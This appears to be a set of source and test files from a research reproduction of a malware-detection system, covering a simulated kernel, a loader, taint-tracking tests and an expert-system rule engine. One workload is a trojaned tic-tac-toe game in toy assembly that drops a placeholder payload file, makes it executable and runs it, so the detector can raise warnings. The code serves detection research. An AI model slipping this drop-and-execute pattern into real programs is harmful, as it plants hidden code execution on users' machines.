        inject a guest-visible failure, or raises :class:`WouldBlock` to
        stall the call once (transparently retried by the kernel).
        """
        if proc.meta.pop(_STALLED_KEY, False):
            # The retry of a stalled call always proceeds for real.
            return None
        if not self._budget_left():
            return None
        name = str(info.get("name", syscall_name(sysno)))

        if sysno == SYS_SOCKETCALL and info.get("socketcall") == "connect":
            if self._roll(self.profile.connect_reset_rate):
                self._record(now, proc.pid, FaultKind.CONNECT_RESET,
                             f"{name}:connect",
                             str(info.get("addr_str", "?")))
                return -errors.ECONNRESET

        if sysno == SYS_RESOLVE:
            if self._roll(self.profile.resolve_fail_rate):
                self._record(now, proc.pid, FaultKind.RESOLVE_FAIL, name,
                             str(info.get("hostname", "?")))
                return -errors.EHOSTUNREACH

        if sysno in self.profile.errno_syscalls:
            if self._roll(self.profile.errno_rate):
                code = self._rng.choice(self.profile.errno_codes)
                self._record(now, proc.pid, FaultKind.ERRNO, name,
                             errors.errno_name(code))
                return -code

        if sysno in self.profile.stall_syscalls:
            if self._roll(self.profile.stall_rate):
                self._record(now, proc.pid, FaultKind.STALL, name)
                proc.meta[_STALLED_KEY] = True
                raise WouldBlock(f"fault injection stall on {name}")

        return None

    def _roll(self, rate: float) -> bool:
        if rate <= 0:
            return False
        return self._rng.random() < rate

    # -- reporting ----------------------------------------------------------
    def render_log(self) -> str:
        """Human-readable replay log (``repro chaos --show-faults``)."""
        if not self.injected:
            return "(no faults injected)"
        return "\n".join(str(f) for f in self.injected)
