"""Differential suite: every registered workload, cached vs interpreted,
and taint fast path on vs off.

The block translation cache and the zero-taint fast path are pure
performance substrates — it must be impossible to tell from any
observable output which engine executed the guest or which dataflow
path tagged it.  This runs the entire Table 4-8 + macro + extension +
scenario registries through both engines and both dataflow paths and
asserts the *full* report fingerprint matches: verdict, warnings,
events, console output, fault log, virtual clock, per-process exit
codes, and the monitor's internal shadow state (BB counters,
register/memory tags).
"""

import importlib

import pytest

_REGISTRIES = (
    ("table4", "repro.programs.micro.execflow", "table4_workloads"),
    ("table5", "repro.programs.micro.resource", "table5_workloads"),
    ("table6", "repro.programs.micro.infoflow", "table6_workloads"),
    ("table7", "repro.programs.trusted.registry", "table7_workloads"),
    ("table8", "repro.programs.exploits.registry", "table8_workloads"),
    ("macro", "repro.programs.macro.registry", "macro_workloads"),
    ("ext", "repro.programs.extensions", "extension_workloads"),
    ("scenarios", "repro.programs.scenarios", "scenario_workloads"),
)


def _all_workloads():
    out = []
    for table, module_name, factory in _REGISTRIES:
        module = importlib.import_module(module_name)
        for workload in getattr(module, factory)():
            out.append(pytest.param(workload, id=f"{table}-{workload.name}"))
    return out


def _shadow_fingerprint(hth):
    """Monitor-internal state per process, in pid order."""
    rows = []
    for pid in sorted(hth.kernel.procs):
        proc = hth.kernel.procs[pid]
        shadow = proc.meta.get("harrier.shadow")
        if shadow is None:
            rows.append((pid, None))
            continue
        rows.append((
            pid,
            dict(shadow.bb_counts),
            shadow.last_app_bb,
            shadow.regs.snapshot(),
            dict(shadow.memory.cell_tags),
        ))
    return rows


def _run_fingerprint(workload, block_cache, taint_fastpath=True,
                     provenance=True):
    from repro.core.options import RunOptions

    hth = workload.build_machine(
        options=RunOptions(
            block_cache=block_cache, taint_fastpath=taint_fastpath,
            provenance=provenance,
        )
    )
    report = hth.run(
        workload.image(),
        argv=workload.argv or [workload.program_path],
        env=workload.env,
        stdin=workload.stdin,
        max_ticks=workload.max_ticks,
    )
    return {
        "verdict": report.verdict,
        # repr() includes the evidence trail, so this fingerprint also
        # holds evidence bit-identity across execution modes.
        "warnings": [repr(w) for w in report.warnings],
        "events": [str(e) for e in report.events],
        "console": report.console_output,
        "exit_code": report.exit_code,
        "reason": report.result.reason,
        "ticks": report.result.ticks,
        "instructions": report.result.instructions,
        "exit_codes": report.result.exit_codes,
        "faults": report.faults,
        "killed_by_monitor": report.killed_by_monitor,
        "shadow": _shadow_fingerprint(hth),
    }


@pytest.mark.parametrize("workload", _all_workloads())
def test_cached_execution_is_indistinguishable(workload):
    cached = _run_fingerprint(workload, block_cache=True)
    interp = _run_fingerprint(workload, block_cache=False)
    for key in cached:
        assert cached[key] == interp[key], (
            f"{workload.name}: {key} diverges between block-cache and "
            f"interpreter execution"
        )


@pytest.mark.parametrize("workload", _all_workloads())
def test_fastpath_is_indistinguishable(workload):
    fast = _run_fingerprint(workload, block_cache=True, taint_fastpath=True)
    slow = _run_fingerprint(workload, block_cache=True, taint_fastpath=False)
    for key in fast:
        assert fast[key] == slow[key], (
            f"{workload.name}: {key} diverges between summary fast path "
            f"and per-transfer template replay"
        )


@pytest.mark.parametrize("workload", _all_workloads())
def test_provenance_recorder_is_transparent(workload):
    """Disabling the evidence recorder changes nothing but the evidence.

    The recorder is an observer: verdicts, warnings (modulo their
    ``evidence`` field, which is excluded from SecurityWarning equality),
    events, clocks, and shadow state must be identical with it on or
    off — otherwise recording trails would perturb detection.
    """
    on = _run_fingerprint(workload, block_cache=True, provenance=True)
    off = _run_fingerprint(workload, block_cache=True, provenance=False)
    on_warnings = on.pop("warnings")
    off_warnings = off.pop("warnings")
    # Strip the evidence trail out of the reprs before comparing.
    import re

    def strip(reprs):
        return [re.sub(r"evidence=.*\)$", "evidence=...)", r)
                for r in reprs]

    assert strip(on_warnings) == strip(off_warnings), (
        f"{workload.name}: warnings diverge when provenance is disabled"
    )
    for key in on:
        assert on[key] == off[key], (
            f"{workload.name}: {key} diverges when provenance is disabled"
        )
