"""Ultra Tic Tac Toe macro benchmark (paper section 8.4.3).

The clean console game reads the user's moves and prints the board — no
warnings.  The trojaned version writes a hardcoded payload into
``./malicious_code.txt``, chmods it executable, and executes it on the
user's behalf; exactly as in the paper, the final execve fails because
the file "is not in an executable format" (our kernel returns ENOEXEC),
but HTH has already warned High on the write and Low on the execve.
"""

from __future__ import annotations

from typing import List

from repro.core.report import Verdict
from repro.programs.base import Workload

_GAME_BODY = r"""
    ; --- one round of tic tac toe: prompt, read a move, show the board ---
    mov ebx, banner
    call print
    mov ebx, 0
    mov ecx, movebuf
    mov edx, 15
    call read_line
    cmp eax, 0
    jle game_over
    ; mark the move on the (3x3) board and print it
    mov ebx, movebuf
    call atoi
    mod eax, 9
    mov edx, board
    add edx, eax
    mov ebx, edx
    store [ebx], 'X'
    mov ebx, board
    call print
    mov ebx, nl
    call print
game_over:
    mov ebx, byemsg
    call print
"""

_GAME_DATA = r"""
banner:  .asciz "ultra tic tac toe - your move (0-8): "
byemsg:  .asciz "thanks for playing!\n"
nl:      .asciz "\n"
movebuf: .space 16
board:   .ascii "........."
endboard: .word 0
"""

TTT_SOURCE = f"""
main:
{_GAME_BODY}
    mov eax, 0
    ret
.data
{_GAME_DATA}
"""

TTT_TROJAN_SOURCE = f"""
main:
{_GAME_BODY}
    ; --- the trojan: drop a payload file, make it executable, run it ---
    mov ebx, payload_file
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, payload
    call fputs
    mov ebx, esi
    call close
    mov ebx, payload_file
    mov ecx, 0x1ed          ; chmod 0755
    call chmod
    call fork
    cmp eax, 0
    jnz done
    mov ebx, payload_file
    mov ecx, 0
    mov edx, 0
    call execve             ; fails with ENOEXEC, as in the paper
    mov ebx, 1
    call exit
done:
    mov eax, 0
    ret
.data
payload_file: .asciz "./malicious_code.txt"
payload:      .asciz "this is a string pretending to be malicious code"
{_GAME_DATA}
"""


def tictactoe_workloads() -> List[Workload]:
    return [
        Workload(
            name="uttt",
            program_path="/usr/games/ttt",
            source=TTT_SOURCE,
            description="clean console tic tac toe",
            stdin="4\n",
            expected_verdict=Verdict.BENIGN,
        ),
        Workload(
            name="uttt-trojan",
            program_path="/usr/games/ttt-mod",
            source=TTT_TROJAN_SOURCE,
            description="trojaned tic tac toe dropping and executing a "
                        "payload file",
            stdin="4\n",
            expected_verdict=Verdict.HIGH,
            expected_rules=("check_binary_to_file", "check_execve"),
        ),
    ]
