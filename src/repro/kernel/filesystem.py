"""In-memory filesystem.

A flat namespace of path -> node.  Three node kinds cover the paper's
workloads:

* regular files (byte content),
* directories (``ls``-style listing is synthesized from the namespace),
* FIFOs (named pipes, created by ``mknod`` — the pma daemon relays shell
  I/O through two of these).

``/proc/<pid>/environ`` is synthesized on open (the procex exploit reads
it), and ``/etc/hosts`` is a regular file seeded by the network setup.
"""

from __future__ import annotations

import enum
from typing import Dict, List, Optional, Tuple

from repro.kernel.errors import EEXIST, EISDIR, ENOENT

# open(2) flag bits (Linux values).
O_RDONLY = 0x0
O_WRONLY = 0x1
O_RDWR = 0x2
O_CREAT = 0x40
O_TRUNC = 0x200
O_APPEND = 0x400

_ACCESS_MASK = 0x3


class NodeKind(enum.Enum):
    FILE = "file"
    DIRECTORY = "directory"
    FIFO = "fifo"


class Node:
    """One filesystem object."""

    __slots__ = ("kind", "data", "mode", "fifo_buffer", "fifo_writers",
                 "fifo_readers")

    def __init__(self, kind: NodeKind, data: bytes = b"", mode: int = 0o644):
        self.kind = kind
        self.data = bytearray(data)
        self.mode = mode
        # FIFO state: a byte queue plus open-end reference counts.
        self.fifo_buffer = bytearray()
        self.fifo_writers = 0
        self.fifo_readers = 0

    def is_executable(self) -> bool:
        return bool(self.mode & 0o111)


class FileSystem:
    """Flat path -> node namespace."""

    def __init__(self) -> None:
        self._nodes: Dict[str, Node] = {}
        self.mkdir(".")
        self.mkdir("/")
        self.mkdir("/tmp")

    # -- namespace ---------------------------------------------------------
    def exists(self, path: str) -> bool:
        return path in self._nodes

    def lookup(self, path: str) -> Optional[Node]:
        return self._nodes.get(path)

    def mkdir(self, path: str) -> Node:
        node = Node(NodeKind.DIRECTORY, mode=0o755)
        self._nodes[path] = node
        return node

    def mkfifo(self, path: str, mode: int = 0o644) -> int:
        """Create a named pipe; returns 0 or -EEXIST."""
        if path in self._nodes:
            return -EEXIST
        self._nodes[path] = Node(NodeKind.FIFO, mode=mode)
        return 0

    def create_file(
        self, path: str, data: bytes = b"", mode: int = 0o644
    ) -> Node:
        node = Node(NodeKind.FILE, data=data, mode=mode)
        self._nodes[path] = node
        return node

    def write_text(self, path: str, text: str, mode: int = 0o644) -> Node:
        return self.create_file(path, text.encode(), mode)

    def read_text(self, path: str) -> str:
        node = self._nodes.get(path)
        if node is None:
            raise FileNotFoundError(path)
        return bytes(node.data).decode(errors="replace")

    def unlink(self, path: str) -> int:
        if path not in self._nodes:
            return -ENOENT
        del self._nodes[path]
        return 0

    def chmod(self, path: str, mode: int) -> int:
        node = self._nodes.get(path)
        if node is None:
            return -ENOENT
        node.mode = mode
        return 0

    def paths(self) -> List[str]:
        return sorted(self._nodes)

    # -- directory listings --------------------------------------------------
    def listing(self, path: str) -> str:
        """Newline-separated names "inside" a directory.

        The namespace is flat, so a directory's contents are the paths that
        start with ``path`` (or, for ``.``, every relative path).
        """
        names: List[str] = []
        if path in (".", "./"):
            prefix = ""
        else:
            prefix = path.rstrip("/") + "/"
        for candidate in sorted(self._nodes):
            if candidate in (".", "/", path):
                continue
            if prefix == "":
                if not candidate.startswith("/"):
                    names.append(candidate)
            elif candidate.startswith(prefix):
                names.append(candidate[len(prefix):])
        return "".join(name + "\n" for name in names)

    # -- open-time resolution -----------------------------------------------
    def resolve_open(
        self, path: str, flags: int, procs_environ: Optional[str] = None
    ) -> Tuple[Optional[Node], int]:
        """Find (or create) the node an ``open`` call addresses.

        Returns ``(node, 0)`` on success or ``(None, -errno)``.
        ``procs_environ`` supplies synthesized content for
        ``/proc/<pid>/environ`` opens.
        """
        if procs_environ is not None:
            return Node(NodeKind.FILE, data=procs_environ.encode()), 0

        node = self._nodes.get(path)
        accmode = flags & _ACCESS_MASK
        if node is None:
            if flags & O_CREAT:
                node = self.create_file(path)
                return node, 0
            return None, -ENOENT
        if node.kind is NodeKind.DIRECTORY and accmode != O_RDONLY:
            return None, -EISDIR
        if node.kind is NodeKind.FILE and flags & O_TRUNC and accmode:
            node.data = bytearray()
        return node, 0
