"""Program loader: image placement, relocation, dynamic linking, initial
stack.

The loader is one of Harrier's event sources (paper section 7.3.2): every
cell it copies out of a binary image is tagged BINARY by the monitor's
image-load hook, and the initial stack (argc/argv/envp) is tagged
USER INPUT (section 7.3.3).  The loader itself knows nothing about taint —
it reports *what* it mapped and the monitor does the tagging.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from functools import lru_cache
from typing import Dict, List, Optional, Sequence, Tuple

from repro.isa.image import Image
from repro.isa.instructions import Imm, Instruction, Opcode, Reg
from repro.isa.memory import (
    APP_BASE,
    FlatMemory,
    HEAP_BASE,
    LIBRARY_BASE,
    LIBRARY_STRIDE,
    STACK_TOP,
)


class LoaderError(Exception):
    """Unresolved symbols or overlapping placements."""


@dataclass(frozen=True)
class LoadedImage:
    """An image placed at a base address with relocations applied."""

    image: Image
    base: int
    #: True for the main executable, False for shared objects and the
    #: startup shim.  Harrier's BB-frequency module counts only app blocks
    #: (paper section 7.4).
    is_app: bool

    @property
    def name(self) -> str:
        return self.image.name

    @property
    def text_start(self) -> int:
        return self.base

    @property
    def text_end(self) -> int:
        return self.base + self.image.text_size

    @property
    def data_start(self) -> int:
        return self.base + self.image.text_size

    @property
    def end(self) -> int:
        return self.base + self.image.size

    def contains(self, addr: int) -> bool:
        return self.base <= addr < self.end

    def contains_code(self, addr: int) -> bool:
        return self.base <= addr < self.text_end

    def symbol_addr(self, name: str) -> Optional[int]:
        off = self.image.symbols.get(name)
        if off is None:
            return None
        return self.base + off

    def abs_bb_leaders(self) -> frozenset:
        return frozenset(self.base + off for off in self.image.bb_leaders)


class ImageMap:
    """All images loaded into one address space."""

    def __init__(self, loaded: Sequence[LoadedImage]) -> None:
        self._loaded = list(loaded)

    def __iter__(self):
        return iter(self._loaded)

    def __len__(self) -> int:
        return len(self._loaded)

    @property
    def app(self) -> LoadedImage:
        for li in self._loaded:
            if li.is_app:
                return li
        raise LoaderError("no app image in map")

    def find(self, addr: int) -> Optional[LoadedImage]:
        for li in self._loaded:
            if li.contains(addr):
                return li
        return None

    def find_code(self, addr: int) -> Optional[LoadedImage]:
        for li in self._loaded:
            if li.contains_code(addr):
                return li
        return None

    def symbol_addr(self, name: str) -> Optional[int]:
        for li in self._loaded:
            addr = li.symbol_addr(name)
            if addr is not None:
                return addr
        return None

    def addr_to_symbol(self, addr: int) -> Optional[str]:
        """Best-effort reverse lookup: symbol defined exactly at addr."""
        for li in self._loaded:
            off = addr - li.base
            if 0 <= off < li.image.size:
                for name, sym_off in li.image.symbols.items():
                    if sym_off == off:
                        return name
        return None


#: Synthetic startup shim: calls main, passes its return value to exit(2).
_SHIM_BASE = 0x100


@lru_cache(maxsize=64)
def _make_shim(main_addr: int) -> Image:
    # Memoized (like ``libc_image``) so ``id(image.text)`` is stable across
    # runs of the same program — the warm BlockCacheStore keys its layouts
    # on text identity, and a fresh shim per run would defeat every hit.
    text = (
        Instruction(Opcode.CALL, Imm(main_addr, symbol="main")),
        Instruction(Opcode.MOV, Reg("ebx"), Reg("eax")),
        Instruction(Opcode.MOV, Reg("eax"), Imm(1)),  # SYS_exit
        Instruction(Opcode.INT, Imm(0x80)),
    )
    return Image(
        name="[startup]",
        text=text,
        symbols={"_start": 0},
        bb_leaders=frozenset({0, 1}),
    )


@dataclass
class LoadResult:
    """What the loader produced for one exec image."""

    entry: int
    image_map: ImageMap
    initial_sp: int
    #: [start, STACK_TOP) region holding argc/argv/envp — USER INPUT.
    initial_stack_range: Tuple[int, int]
    heap_base: int


class Loader:
    """Loads a main image plus shared libraries into a process memory."""

    def __init__(self, libraries: Sequence[Image] = ()) -> None:
        self.libraries = list(libraries)

    def load(
        self,
        memory: FlatMemory,
        program: Image,
        argv: Sequence[str],
        env: Dict[str, str],
    ) -> LoadResult:
        placements: List[LoadedImage] = [
            LoadedImage(program, APP_BASE, is_app=True)
        ]
        for i, lib in enumerate(self.libraries):
            placements.append(
                LoadedImage(lib, LIBRARY_BASE + i * LIBRARY_STRIDE,
                            is_app=False)
            )

        main_addr = placements[0].symbol_addr("main")
        if main_addr is None:
            raise LoaderError(f"{program.name}: no 'main' symbol")
        shim = LoadedImage(_make_shim(main_addr), _SHIM_BASE, is_app=False)
        loaded = [shim] + placements
        image_map = ImageMap(loaded)

        for li in loaded:
            self._map_one(memory, li, image_map)

        sp = self._build_initial_stack(memory, argv, env)
        return LoadResult(
            entry=shim.base,
            image_map=image_map,
            initial_sp=sp,
            initial_stack_range=(sp, STACK_TOP),
            heap_base=HEAP_BASE,
        )

    # -- internals -----------------------------------------------------------
    def _map_one(
        self, memory: FlatMemory, li: LoadedImage, image_map: ImageMap
    ) -> None:
        image = li.image

        def resolve(symbol: str) -> int:
            local = li.symbol_addr(symbol)
            if local is not None:
                return local
            addr = image_map.symbol_addr(symbol)
            if addr is None:
                raise LoaderError(
                    f"{image.name}: unresolved symbol {symbol!r}"
                )
            return addr

        patched: List[Instruction] = list(image.text)
        for reloc in image.text_relocations:
            instr = patched[reloc.index]
            target = resolve(reloc.symbol)
            new_imm = Imm(target, symbol=reloc.symbol)
            patched[reloc.index] = replace(instr, **{reloc.slot: new_imm})

        memory.map_code(li.base, patched)
        for off, value in image.data.items():
            memory.write(li.base + off, value)
        for dreloc in image.data_relocations:
            memory.write(li.base + dreloc.offset, resolve(dreloc.symbol))

    @staticmethod
    def _build_initial_stack(
        memory: FlatMemory, argv: Sequence[str], env: Dict[str, str]
    ) -> int:
        """Lay out argv/env strings and arrays; returns the initial esp.

        Layout (addresses descend):  string area | env array | argv array |
        envp | argvp | argc  <- esp.  Guest convention: at ``main`` entry
        (after the shim's CALL pushed a return address) ``[esp+1]`` is argc,
        ``[esp+2]`` the argv pointer, ``[esp+3]`` the envp pointer.
        """
        env_strings = [f"{key}={value}" for key, value in env.items()]
        total = sum(len(s) + 1 for s in list(argv) + env_strings)
        cursor = STACK_TOP - total

        argv_ptrs: List[int] = []
        for arg in argv:
            argv_ptrs.append(cursor)
            cursor += memory.write_cstring(cursor, arg)
        env_ptrs: List[int] = []
        for entry in env_strings:
            env_ptrs.append(cursor)
            cursor += memory.write_cstring(cursor, entry)
        assert cursor == STACK_TOP

        strings_start = STACK_TOP - total
        cursor = strings_start
        # env array (NUL-terminated), then argv array, below the strings.
        cursor -= len(env_ptrs) + 1
        env_array = cursor
        for i, ptr in enumerate(env_ptrs):
            memory.write(env_array + i, ptr)
        memory.write(env_array + len(env_ptrs), 0)

        cursor -= len(argv_ptrs) + 1
        argv_array = cursor
        for i, ptr in enumerate(argv_ptrs):
            memory.write(argv_array + i, ptr)
        memory.write(argv_array + len(argv_ptrs), 0)

        sp = cursor - 3
        memory.write(sp, len(argv_ptrs))     # argc
        memory.write(sp + 1, argv_array)     # argv
        memory.write(sp + 2, env_array)      # envp
        return sp
