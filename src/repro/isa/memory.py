"""Flat per-process address space.

Cells are sparse: a read of a never-written address returns 0 (BSS / fresh
stack semantics), so the loader and programs never need to pre-zero regions.
Code lives in a parallel map from address to :class:`Instruction`; executing
an address with no instruction mapped is a fault.

Strings are stored one character code per cell, NUL-terminated — helpers for
reading and writing them live here because the kernel, Harrier, and the
guest-program builders all need them.
"""

from __future__ import annotations

from typing import Dict, Iterable, List, Optional

from repro.isa.instructions import Instruction


class MemoryFault(Exception):
    """Raised when execution touches an unmapped code address."""


#: Longest C string the helpers will scan before declaring it unterminated.
MAX_CSTRING = 4096

#: Default layout constants (one address unit == one cell).
STACK_TOP = 0x7F_0000
HEAP_BASE = 0x40_0000
APP_BASE = 0x1000
LIBRARY_BASE = 0x10_0000
LIBRARY_STRIDE = 0x2_0000


class FlatMemory:
    """Sparse flat memory: data cells plus an instruction map."""

    __slots__ = ("cells", "code")

    def __init__(self) -> None:
        self.cells: Dict[int, int] = {}
        self.code: Dict[int, Instruction] = {}

    # -- data -------------------------------------------------------------
    def read(self, addr: int) -> int:
        return self.cells.get(addr, 0)

    def write(self, addr: int, value: int) -> None:
        self.cells[addr] = int(value)

    def read_block(self, addr: int, length: int) -> List[int]:
        return [self.read(addr + i) for i in range(length)]

    def write_block(self, addr: int, values: Iterable[int]) -> int:
        count = 0
        for i, value in enumerate(values):
            self.write(addr + i, value)
            count += 1
        return count

    # -- strings ----------------------------------------------------------
    def read_cstring(self, addr: int, max_len: int = MAX_CSTRING) -> str:
        """Read a NUL-terminated string starting at ``addr``.

        Cell values are masked into the Unicode range; surrogate code
        points (U+D800-U+DFFF, which ``chr`` accepts but no string may
        carry through encoding) become U+FFFD instead of letting a guest
        crash the kernel's string decoding with a ValueError.
        """
        chars: List[str] = []
        cells = self.cells
        for i in range(max_len):
            value = cells.get(addr + i, 0)
            if value == 0:
                return "".join(chars)
            code = value & 0x10FFFF
            if 0xD800 <= code <= 0xDFFF:
                code = 0xFFFD
            chars.append(chr(code))
        raise MemoryFault(
            f"unterminated string at {addr:#x} (>{max_len} cells)"
        )

    def write_cstring(self, addr: int, text: str) -> int:
        """Write ``text`` NUL-terminated; returns cells written."""
        for i, ch in enumerate(text):
            self.write(addr + i, ord(ch))
        self.write(addr + len(text), 0)
        return len(text) + 1

    def read_bytes(self, addr: int, length: int) -> bytes:
        return bytes(self.read(addr + i) & 0xFF for i in range(length))

    def write_bytes(self, addr: int, data: bytes) -> int:
        for i, byte in enumerate(data):
            self.write(addr + i, byte)
        return len(data)

    # -- code -------------------------------------------------------------
    def map_code(self, base: int, instructions: Iterable[Instruction]) -> int:
        count = 0
        for i, instr in enumerate(instructions):
            addr = base + i
            if addr in self.code:
                raise MemoryFault(f"code overlap at {addr:#x}")
            self.code[addr] = instr
            count += 1
        return count

    def fetch(self, addr: int) -> Instruction:
        instr = self.code.get(addr)
        if instr is None:
            raise MemoryFault(f"execute of unmapped address {addr:#x}")
        return instr

    def has_code(self, addr: int) -> bool:
        return addr in self.code

    # -- lifecycle ----------------------------------------------------------
    def copy(self) -> "FlatMemory":
        """Fork-time duplicate (instructions are immutable and shared)."""
        dup = FlatMemory()
        dup.cells = dict(self.cells)
        dup.code = dict(self.code)
        return dup

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        return (
            f"FlatMemory(<{len(self.cells)} data cells, "
            f"{len(self.code)} instructions>)"
        )
