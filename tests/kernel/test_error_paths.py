"""Kernel error-path tests: bad pointers, decode failures, unknown
syscalls, errno names."""

from repro.kernel.errors import errno_name


class TestErrnoNames:
    def test_known(self):
        assert errno_name(2) == "ENOENT"
        assert errno_name(9) == "EBADF"
        assert errno_name(111) == "ECONNREFUSED"

    def test_unknown(self):
        assert errno_name(9999) == "errno9999"


class TestBadPointers:
    def test_open_unterminated_path_efault(self, guest):
        # point the path at a huge unterminated string region
        report = guest.run(
            r"""
main:
    ; fill 5000 cells with 'A' so read_cstring never finds NUL
    mov esi, 0x500000
    mov edi, 0
fill:
    cmp edi, 5000
    jge do_open
    store [esi], 65
    add esi, 1
    add edi, 1
    jmp fill
do_open:
    mov ebx, 0x500000
    mov ecx, 0
    call open
    mov ebx, eax
    call print_num
    mov eax, 0
    ret
"""
        )
        assert report.console_output == "-14"  # -EFAULT

    def test_execve_bad_pointer_efault(self, guest):
        report = guest.run(
            r"""
main:
    mov esi, 0x500000
    mov edi, 0
fill:
    cmp edi, 5000
    jge go
    store [esi], 66
    add esi, 1
    add edi, 1
    jmp fill
go:
    mov ebx, 0x500000
    mov ecx, 0
    mov edx, 0
    call execve
    mov ebx, eax
    call print_num
    mov eax, 0
    ret
"""
        )
        assert report.console_output == "-14"


class TestUnknownSyscall:
    def test_enosys(self, guest):
        report = guest.run(
            r"""
main:
    mov eax, 999
    int 0x80
    mov ebx, eax
    call print_num
    mov eax, 0
    ret
"""
        )
        assert report.console_output == "-38"  # -ENOSYS


class TestSocketErrors:
    def test_write_to_unconnected_socket(self, guest):
        report = guest.run(
            r"""
main:
    call socket
    mov ebx, eax
    mov ecx, buf
    mov edx, 4
    call write
    mov ebx, eax
    call print_num
    mov eax, 0
    ret
.data
buf: .space 4
"""
        )
        assert report.console_output == "-88"  # -ENOTSOCK (not connected)

    def test_listen_before_bind(self, guest):
        report = guest.run(
            r"""
main:
    call socket
    mov ebx, eax
    call listen
    mov ebx, eax
    call print_num
    mov eax, 0
    ret
"""
        )
        assert report.console_output == "-22"  # -EINVAL

    def test_socketcall_on_regular_fd(self, guest):
        def setup(hth):
            hth.fs.write_text("/f", "x")

        report = guest.run(
            r"""
main:
    mov ebx, path
    mov ecx, 0
    call open
    ; connect_addr on a file fd
    mov ebx, eax
    mov ecx, 0x7F000001
    mov edx, 80
    call connect_addr
    mov ebx, eax
    call print_num
    mov eax, 0
    ret
.data
path: .asciz "/f"
""",
            setup=setup,
        )
        assert report.console_output == "-88"  # -ENOTSOCK
