"""Console device tests."""

from repro.kernel.console import Console


class TestInput:
    def test_provide_and_read(self):
        console = Console()
        console.provide_input("abc")
        assert console.read(2) == b"ab"
        assert console.read(5) == b"c"
        assert console.read(5) == b""

    def test_provide_bytes(self):
        console = Console()
        console.provide_input(b"\x01\x02")
        assert console.read(10) == b"\x01\x02"

    def test_pending_input(self):
        console = Console()
        assert console.pending_input() == 0
        console.provide_input("xy")
        assert console.pending_input() == 2

    def test_read_line_stops_at_newline(self):
        console = Console()
        console.provide_input("one\ntwo\n")
        assert console.read_line(64) == b"one\n"
        assert console.read_line(64) == b"two\n"
        assert console.read_line(64) == b""

    def test_read_line_respects_max(self):
        console = Console()
        console.provide_input("abcdef\n")
        assert console.read_line(3) == b"abc"

    def test_read_line_without_newline(self):
        console = Console()
        console.provide_input("tail")
        assert console.read_line(64) == b"tail"


class TestOutput:
    def test_write_and_capture(self):
        console = Console()
        console.write(1, b"hello ")
        console.write(2, b"world")
        assert console.output_text() == "hello world"

    def test_per_pid_capture(self):
        console = Console()
        console.write(1, b"one")
        console.write(2, b"two")
        assert console.output_text(pid=1) == "one"
        assert console.output_bytes(pid=2) == b"two"

    def test_write_returns_length(self):
        assert Console().write(1, b"abcd") == 4
