"""A from-scratch CLIPS-style expert system shell (paper section 6.2).

Three components, mirroring the paper's description of CLIPS:

* **facts** — :class:`Template` / :class:`Fact` (with multislots),
* **rules** — :class:`Rule` with pattern/test/not LHS elements,
* **inference engine** — :class:`InferenceEngine`: salience-ordered agenda,
  refraction, assert/retract, and a fire trace for explainability.
"""

from repro.expert.clips_format import (
    render_assert,
    render_fact,
    render_fire_trace,
    render_firing,
)
from repro.expert.conditions import Not, P, Pattern, Test, V, match_lhs
from repro.expert.engine import (
    Activation,
    EngineError,
    FiredRule,
    InferenceEngine,
    Rule,
    RuleContext,
)
from repro.expert.rete import MatchStats, ReteNetwork
from repro.expert.template import Fact, SlotSpec, Template, TemplateError

__all__ = [
    "Template",
    "SlotSpec",
    "Fact",
    "TemplateError",
    "Pattern",
    "Test",
    "Not",
    "V",
    "P",
    "match_lhs",
    "InferenceEngine",
    "Rule",
    "RuleContext",
    "Activation",
    "FiredRule",
    "EngineError",
    "ReteNetwork",
    "MatchStats",
    "render_fact",
    "render_assert",
    "render_firing",
    "render_fire_trace",
]
