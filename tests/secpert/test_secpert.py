"""Secpert integration-level tests: fact conversion, warning sink,
explanations, paper-format rendering."""

from repro.harrier.events import (
    DataTransferEvent,
    ProcessEvent,
    ResourceAccessEvent,
    ResourceId,
    SecurityEvent,
)
from repro.kernel.process import ResourceKind
from repro.secpert import (
    DATA_TRANSFER,
    PROCESS_CREATED,
    SYSTEM_CALL_ACCESS,
    PolicyConfig,
    Secpert,
    SecurityWarning,
    Severity,
    WarningSink,
    event_to_fact,
    policy_resource_type,
)
from repro.taint import DataSource, TagSet

BIN = TagSet.of(DataSource.BINARY, "/home/evil/a.out")


def access_event():
    return ResourceAccessEvent(
        pid=1, time=5, frequency=1, address="1000",
        call_name="SYS_execve",
        resource=ResourceId(ResourceKind.FILE, "/bin/ls"),
        origin=BIN,
    )


class TestFactConversion:
    def test_access_event_fact(self):
        fact = event_to_fact(access_event())
        assert fact.template is SYSTEM_CALL_ACCESS
        assert fact["system_call_name"] == "SYS_execve"
        assert fact["resource_name"] == "/bin/ls"
        assert fact["resource_origin"] == BIN

    def test_transfer_event_fact(self):
        event = DataTransferEvent(
            pid=1, time=5, frequency=1, address="0",
            call_name="SYS_write", direction="write",
            resource=ResourceId(ResourceKind.FIFO, "pipe"),
            data_tags=BIN, resource_origin=BIN, length=3,
        )
        fact = event_to_fact(event)
        assert fact.template is DATA_TRANSFER
        assert fact["resource_type"] == "FILE"  # FIFO folds into FILE

    def test_process_event_fact(self):
        event = ProcessEvent(
            pid=1, time=5, frequency=1, address="0",
            call_name="SYS_clone", total_created=4, recent_created=2,
            window=100,
        )
        fact = event_to_fact(event)
        assert fact.template is PROCESS_CREATED
        assert fact["total"] == 4

    def test_unknown_event_gives_none(self):
        event = SecurityEvent(pid=1, time=0, frequency=1, address="0",
                              call_name="x")
        assert event_to_fact(event) is None

    def test_policy_resource_type(self):
        assert policy_resource_type(ResourceKind.FILE) == "FILE"
        assert policy_resource_type(ResourceKind.DIRECTORY) == "FILE"
        assert policy_resource_type(ResourceKind.SOCKET) == "SOCKET"
        assert policy_resource_type(ResourceKind.CONSOLE) == "CONSOLE"


class TestSecpertLifecycle:
    def test_facts_are_ephemeral(self):
        secpert = Secpert()
        secpert.analyze(access_event())
        assert secpert.engine.facts() == []

    def test_warnings_accumulate_across_events(self):
        secpert = Secpert()
        secpert.analyze(access_event())
        secpert.analyze(access_event())
        assert len(secpert.warnings) == 2

    def test_warning_carries_event(self):
        secpert = Secpert()
        event = access_event()
        warnings = secpert.analyze(event)
        assert warnings[0].event is event

    def test_explanations_trace_rules(self):
        secpert = Secpert()
        secpert.analyze(access_event())
        trace = secpert.explanations()
        assert [t.rule_name for t in trace] == ["check_execve"]

    def test_render_warnings_paper_format(self):
        secpert = Secpert()
        secpert.analyze(access_event())
